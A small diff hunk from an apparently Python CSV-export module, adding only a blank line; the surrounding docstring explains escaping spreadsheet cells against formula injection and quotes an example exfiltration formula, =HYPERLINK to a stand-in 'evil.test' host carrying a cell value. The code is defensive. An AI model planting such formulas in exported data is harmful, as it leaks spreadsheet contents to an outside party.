@@ -5,6 +5,7 @@ formula by Excel, LibreOffice and Google Sheets, so a job title typed into the H
 `=HYPERLINK("https://evil.test?"&A1)` would run in HR's spreadsheet. Such text cells get a leading `'`
 (shown as text, not run); numbers are left as numbers, so `-0.05` stays a negative lift.
 """
+
 from __future__ import annotations
 
 import csv
